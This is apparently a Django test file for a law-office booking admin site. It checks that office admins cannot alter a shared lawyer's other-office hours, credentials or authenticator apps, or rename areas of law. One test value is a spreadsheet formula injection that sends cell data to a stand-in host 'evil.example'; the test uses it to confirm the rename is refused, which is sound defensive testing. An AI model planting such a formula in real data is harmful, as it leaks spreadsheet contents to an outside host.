"""An office admin and a lawyer shared with another office, in the admin site.

The office admin sees and changes only their own office's part of the lawyer (the
membership of their office, the weekly hours there); saving keeps what they cannot see;
the account of anyone who also works elsewhere (password, e-mail address, mobile number,
authenticator app) is changed only by a superuser or the person. Areas of law are named
and switched on or off by superusers only; each office ticks those it offers.
"""

from http import HTTPStatus

import pytest
from allauth.mfa.models import Authenticator
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
from django.contrib.auth.models import Group, Permission
from django.utils import translation
from django.utils.html import escape

from accounts.admin import WORKS_ELSEWHERE
from accounts.models import Role, SecurityEvent, SecurityEventKind, User
from booking.admin import SHARED_LAWYER
from booking.models import AvailabilityRule, TimeOff, Topic
from tests.conftest import NOW, local
from tests.factories import LawyerFactory, OfficeFactory, RuleFactory, TopicFactory, UserFactory

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("plain_http")]
PASSWORD = "office-admin-password-1"
NEW_PASSWORD = "a-new-password-for-the-lawyer-9"


@pytest.fixture
def office_admin(office):
    """Office 1's admin, in a group that may do everything with accounts, booking and
    the authenticators: whatever a group is given, the admin's own rules hold."""
    group = Group.objects.create(name="office admin")
    group.permissions.set(
        Permission.objects.filter(
            content_type__app_label__in=["accounts", "booking", "mfa"],
            codename__regex=r"^(view|add|change|delete)_",
        )
    )
    user = UserFactory(
        role=Role.OFFICE_ADMIN,
        office=office,
        phone=None,
        phone_verified=False,
        email="head@example.invalid",
        is_staff=True,
    )
    user.set_password(PASSWORD)
    user.save()
    user.groups.add(group)
    return user


@pytest.fixture
def admin_client(client, office_admin):
    client.force_login(office_admin)
    return client


@pytest.fixture
def elsewhere():
    return OfficeFactory()


@pytest.fixture
def shared(office, elsewhere, topic):
    """A lawyer of both offices, with Monday hours here and Wednesday hours there."""
    lawyer = LawyerFactory(offices=[office, elsewhere], topics=[topic], languages="普通话")
    lawyer.user.set_password("the-lawyers-own-password-1")
    lawyer.user.save()
    RuleFactory(lawyer=lawyer, office=office, weekday=0)
    RuleFactory(lawyer=lawyer, office=elsewhere, weekday=2)
    return lawyer


def _text(response, message) -> str:
    """``message`` in the language the page was served in, as HTML shows it."""
    with translation.override(response["Content-Language"]):
        return escape(str(message))


def _rule_data(rule: AvailabilityRule, index: int = 0, **changes) -> dict:
    values = {
        "id": rule.pk,
        "lawyer": rule.lawyer_id,
        "office": rule.office_id,
        "weekday": rule.weekday,
        "start_time": f"{rule.start_time:%H:%M}",
        "end_time": f"{rule.end_time:%H:%M}",
        "slot_minutes": rule.slot_minutes,
        "mode": rule.mode,
        "valid_from": "",
        "valid_until": "",
        **changes,
    }
    return {f"rules-{index}-{key}": value for key, value in values.items()}


def _lawyer_form(lawyer, *, offices, rules, topics=None, **extra) -> dict:
    """The lawyer's form as the old page posted it: every field, every rule shown."""
    data = {
        "user": lawyer.user_id,
        "offices": [office.pk for office in offices],
        "topics": [topic.pk for topic in (topics or lawyer.topics.all())],
        "languages": lawyer.languages,
        "is_active": "on",
        "rules-TOTAL_FORMS": str(len(rules)),
        "rules-INITIAL_FORMS": str(len(rules)),
        "rules-MIN_NUM_FORMS": "0",
        "rules-MAX_NUM_FORMS": "1000",
        **extra,
    }
    for index, rule in enumerate(rules):
        data.update(_rule_data(rule, index))
    return data


# The shared lawyer's page


def test_a_shared_lawyers_page_shows_only_this_offices_hours(admin_client, shared, office):
    response = admin_client.get(f"/admin/booking/lawyer/{shared.pk}/change/")
    assert response.status_code == HTTPStatus.OK
    [rules] = response.context["inline_admin_formsets"]
    assert [form.instance.office_id for form in rules.formset.initial_forms] == [office.pk]
    assert _text(response, SHARED_LAWYER) in response.content.decode()


def test_saving_a_shared_lawyer_keeps_the_other_offices_hours_membership_and_areas(
    admin_client, shared, office, elsewhere, topic
):
    here = AvailabilityRule.objects.get(lawyer=shared, office=office)
    there = AvailabilityRule.objects.get(lawyer=shared, office=elsewhere)
    labour = TopicFactory(code="labour")
    data = _lawyer_form(
        shared, offices=[office], rules=[here], topics=[labour], languages="英语", is_active=""
    )
    data.update(_rule_data(here, end_time="11:00"))
    response = admin_client.post(f"/admin/booking/lawyer/{shared.pk}/change/", data)
    assert response.status_code == HTTPStatus.FOUND
    shared.refresh_from_db()
    assert set(shared.offices.all()) == {office, elsewhere}
    # What the lawyer shares with the other office is not the office admin's to change.
    assert list(shared.topics.all()) == [topic]
    assert (shared.languages, shared.is_active) == ("普通话", True)
    assert AvailabilityRule.objects.get(pk=here.pk).end_time.hour == 11  # their own hours
    assert AvailabilityRule.objects.get(pk=there.pk).end_time.hour == 12


def test_another_offices_hours_cannot_be_deleted_or_changed_by_their_id(
    admin_client, shared, office, elsewhere
):
    here = AvailabilityRule.objects.get(lawyer=shared, office=office)
    there = AvailabilityRule.objects.get(lawyer=shared, office=elsewhere)
    url = f"/admin/booking/lawyer/{shared.pk}/change/"
    data = _lawyer_form(shared, offices=[office], rules=[here, there])
    data.update(_rule_data(there, 1, DELETE="on"))
    before = sorted(AvailabilityRule.objects.values_list("pk", "office_id", "weekday"))
    # No such hours on this page: the form that names them is passed over.
    assert admin_client.post(url, data).status_code == HTTPStatus.FOUND
    data.update(_rule_data(there, 1, office=office.pk, weekday=4))
    assert admin_client.post(url, data).status_code == HTTPStatus.FOUND
    after = sorted(AvailabilityRule.objects.values_list("pk", "office_id", "weekday"))
    assert after == before
    assert (there.pk, elsewhere.pk, 2) in after


def test_an_office_admin_may_take_their_own_office_off_a_shared_lawyer(
    admin_client, shared, office, elsewhere
):
    here = AvailabilityRule.objects.get(lawyer=shared, office=office)
    data = _lawyer_form(shared, offices=[], rules=[here])
    response = admin_client.post(f"/admin/booking/lawyer/{shared.pk}/change/", data)
    assert response.status_code == HTTPStatus.FOUND
    assert list(shared.offices.all()) == [elsewhere]


def test_a_lawyer_of_this_office_only_keeps_areas_the_office_does_not_offer(
    admin_client, lawyer, office, topic
):
    labour, debts = TopicFactory(code="labour"), TopicFactory(code="debts")
    lawyer.topics.add(labour)
    office.topics.remove(labour)  # the office no longer offers it: not a choice here
    page = admin_client.get(f"/admin/booking/lawyer/{lawyer.pk}/change/")
    choices = page.context["adminform"].form.fields["topics"].queryset
    assert labour not in choices and topic in choices
    rules = list(AvailabilityRule.objects.filter(lawyer=lawyer))
    data = _lawyer_form(lawyer, offices=[office], rules=rules, topics=[topic, debts])
    response = admin_client.post(f"/admin/booking/lawyer/{lawyer.pk}/change/", data)
    assert response.status_code == HTTPStatus.FOUND
    assert set(lawyer.topics.all()) == {topic, debts, labour}


def test_a_shared_lawyer_cannot_be_deleted_by_an_office_admin(admin_client, shared):
    response = admin_client.post(f"/admin/booking/lawyer/{shared.pk}/delete/", {"post": "yes"})
    assert response.status_code == HTTPStatus.FORBIDDEN
    assert shared.offices.count() == 2


def test_a_shared_lawyers_time_off_is_shown_and_never_changed_or_added(
    admin_client, shared, lawyer
):
    day = NOW.date().replace(day=28)
    off = TimeOff.objects.create(
        lawyer=shared, starts_at=local(day, 0), ends_at=local(day, 23), reason="私事"
    )
    url = f"/admin/booking/timeoff/{off.pk}/change/"
    assert admin_client.get(url).status_code == HTTPStatus.OK  # why there are no times
    assert admin_client.post(url, {"lawyer": shared.pk}).status_code == HTTPStatus.FORBIDDEN
    delete = admin_client.post(f"/admin/booking/timeoff/{off.pk}/delete/", {"post": "yes"})
    assert delete.status_code == HTTPStatus.FORBIDDEN
    assert TimeOff.objects.filter(pk=off.pk).exists()
    data = {
        "lawyer": shared.pk,
        "starts_at_0": day.isoformat(), "starts_at_1": "08:00",
        "ends_at_0": day.isoformat(), "ends_at_1": "09:00",
    }  # fmt: skip
    added = admin_client.post("/admin/booking/timeoff/add/", data)
    assert added.status_code == HTTPStatus.OK  # the form again: not a lawyer of theirs alone
    assert TimeOff.objects.count() == 1
    data["lawyer"] = lawyer.pk
    assert admin_client.post("/admin/booking/timeoff/add/", data).status_code == HTTPStatus.FOUND


# The account of someone who also works elsewhere


def _password_form(password: str = NEW_PASSWORD) -> dict:
    return {"password1": password, "password2": password, "usable_password": "true"}


def test_the_password_of_a_shared_lawyer_is_refused_plainly_and_logged(admin_client, shared):
    url = f"/admin/accounts/user/{shared.user_id}/password/"
    for response in (admin_client.get(url), admin_client.post(url, _password_form())):
        assert response.status_code == HTTPStatus.FORBIDDEN
        assert _text(response, WORKS_ELSEWHERE) in response.content.decode()
    shared.user.refresh_from_db()
    assert shared.user.check_password("the-lawyers-own-password-1")
    events = SecurityEvent.objects.filter(kind=SecurityEventKind.CREDENTIALS_REFUSED)
    assert [(event.user, event.details.split(":")[0]) for event in events] == [
        (shared.user, "password"),
        (shared.user, "password"),
    ]
    assert shared.user.email not in events[0].identifier  # masked


def test_the_password_of_a_lawyer_of_this_office_only_is_set_by_its_admin(admin_client, lawyer):
    lawyer.user.set_password("old-password-of-the-lawyer-1")
    lawyer.user.save()
    url = f"/admin/accounts/user/{lawyer.user_id}/password/"
    assert admin_client.post(url, _password_form()).status_code == HTTPStatus.FOUND
    lawyer.user.refresh_from_db()
    assert lawyer.user.check_password(NEW_PASSWORD)
    assert not SecurityEvent.objects.exists()


def _user_form(user: User, **changes) -> dict:
    return {
        "email": user.email or "",
        "phone": str(user.phone or ""),
        "display_name": user.display_name,
        "preferred_language": user.preferred_language,
        "role": user.role,
        "is_active": "on",
        "date_joined_0": f"{user.date_joined:%Y-%m-%d}",
        "date_joined_1": f"{user.date_joined:%H:%M:%S}",
        **changes,
    }


def test_the_email_and_phone_of_a_shared_lawyer_are_refused_plainly_and_logged(
    admin_client, shared
):
    url = f"/admin/accounts/user/{shared.user_id}/change/"
    page = admin_client.get(url)
    assert page.status_code == HTTPStatus.OK  # shown, read only
    assert 'name="email"' not in page.content.decode()
    assert _text(page, WORKS_ELSEWHERE) in page.content.decode()
    form = _user_form(shared.user, email="taken-over@example.invalid", phone="+8613912345678")
    response = admin_client.post(url, form)
    assert response.status_code == HTTPStatus.FORBIDDEN
    assert _text(response, WORKS_ELSEWHERE) in response.content.decode()
    email = shared.user.email
    shared.user.refresh_from_db()
    assert (shared.user.email, shared.user.phone) == (email, None)
    event = SecurityEvent.objects.get()
    assert (event.kind, event.user, event.details.split(":")[0]) == (
        SecurityEventKind.CREDENTIALS_REFUSED,
        shared.user,
        "account",
    )


def test_the_email_of_a_lawyer_of_this_office_only_is_changed_by_its_admin(admin_client, lawyer):
    url = f"/admin/accounts/user/{lawyer.user_id}/change/"
    response = admin_client.post(url, _user_form(lawyer.user, email="new@example.invalid"))
    assert response.status_code == HTTPStatus.FOUND
    lawyer.user.refresh_from_db()
    assert lawyer.user.email == "new@example.invalid"


def test_staff_of_another_office_who_also_lawyer_here_is_refused(admin_client, office, elsewhere):
    clerk = UserFactory(role=Role.DESK, office=elsewhere, phone=None, phone_verified=False)
    LawyerFactory(user=clerk, offices=[office])
    url = f"/admin/accounts/user/{clerk.pk}/password/"
    assert admin_client.post(url, _password_form()).status_code == HTTPStatus.FORBIDDEN


def test_authenticator_apps_are_a_superusers_whatever_the_group_may(admin_client, shared, client):
    authenticator = TOTP.activate(shared.user, generate_totp_secret()).instance
    for url in (
        "/admin/mfa/authenticator/",
        f"/admin/mfa/authenticator/{authenticator.pk}/change/",
        f"/admin/mfa/authenticator/{authenticator.pk}/delete/",
    ):
        assert admin_client.get(url).status_code == HTTPStatus.FORBIDDEN
    delete = admin_client.post(
        f"/admin/mfa/authenticator/{authenticator.pk}/delete/", {"post": "yes"}
    )
    assert delete.status_code == HTTPStatus.FORBIDDEN
    assert Authenticator.objects.filter(pk=authenticator.pk).exists()
    client.force_login(User.objects.create_superuser(email="root@example.invalid"))
    assert client.get("/admin/mfa/authenticator/").status_code == HTTPStatus.OK


def test_a_superuser_changes_a_shared_lawyers_password(client, shared):
    client.force_login(User.objects.create_superuser(email="root@example.invalid"))
    url = f"/admin/accounts/user/{shared.user_id}/password/"
    assert client.post(url, _password_form()).status_code == HTTPStatus.FOUND
    shared.user.refresh_from_db()
    assert shared.user.check_password(NEW_PASSWORD)


# Areas of law


def test_an_office_admin_reads_the_areas_of_law_and_cannot_rename_or_switch_one_off(
    admin_client, topic
):
    url = f"/admin/booking/topic/{topic.pk}/change/"
    assert admin_client.get("/admin/booking/topic/").status_code == HTTPStatus.OK
    assert admin_client.get(url).status_code == HTTPStatus.OK
    renamed = {
        "code": topic.code,
        "name_zh_hans": '=HYPERLINK("http://evil.example/?"&B2,"婚姻")',
        "name_en": "Family",
        "position": "1",
    }
    assert admin_client.post(url, renamed).status_code == HTTPStatus.FORBIDDEN
    assert admin_client.post("/admin/booking/topic/add/", {**renamed, "code": "x"}).status_code == (
        HTTPStatus.FORBIDDEN
    )
    listing = admin_client.post(
        "/admin/booking/topic/",
        {
            "form-TOTAL_FORMS": "1",
            "form-INITIAL_FORMS": "1",
            "form-0-id": topic.pk,
            "form-0-position": "1",
            "_save": "Save",
        },
    )  # the list's own switches: is_active missing is "off"
    assert listing.status_code in (HTTPStatus.OK, HTTPStatus.FOUND, HTTPStatus.FORBIDDEN)
    topic.refresh_from_db()
    assert (topic.name_zh_hans, topic.is_active) == ("婚姻家庭", True)


def test_a_superuser_renames_an_area_of_law(client, topic):
    client.force_login(User.objects.create_superuser(email="root@example.invalid"))
    data = {"code": topic.code, "name_zh_hans": "婚姻", "name_en": "Family", "position": "1"}
    data["is_active"] = "on"
    response = client.post(f"/admin/booking/topic/{topic.pk}/change/", data)
    assert response.status_code == HTTPStatus.FOUND
    assert Topic.objects.get(pk=topic.pk).name_zh_hans == "婚姻"


def _office_form(page) -> dict:
    """The office's form as the page shows it, ready to post again."""
    form = page.context["adminform"].form
    data = {}
    for name in form.fields:
        value = form[name].value()
        if isinstance(value, bool):
            if value:
                data[name] = "on"
        elif isinstance(value, list | tuple):
            data[name] = [str(item) for item in value]
        else:
            data[name] = "" if value is None else str(value)
    return data


def test_an_office_admin_ticks_the_areas_their_office_offers_and_keeps_those_switched_off(
    admin_client, office, elsewhere, topic
):
    labour = TopicFactory(code="labour")
    veterans = Topic.objects.get(code="veterans")
    veterans.is_active = False  # by a superuser, for everyone
    veterans.save()
    office.topics.add(veterans)  # kept as the office's choice for when it is back
    url = f"/admin/booking/office/{office.pk}/change/"
    page = admin_client.get(url)
    choices = page.context["adminform"].form.fields["topics"].queryset
    assert veterans not in choices and {topic, labour} <= set(choices)
    assert 'type="checkbox" name="topics"' in page.content.decode()  # no JavaScript needed
    data = _office_form(page)
    data["topics"] = [str(labour.pk)]  # family switched off here
    assert admin_client.post(url, data).status_code == HTTPStatus.FOUND
    assert set(office.topics.all()) == {labour, veterans}
    assert topic in elsewhere.topics.all()  # the other office's own choice
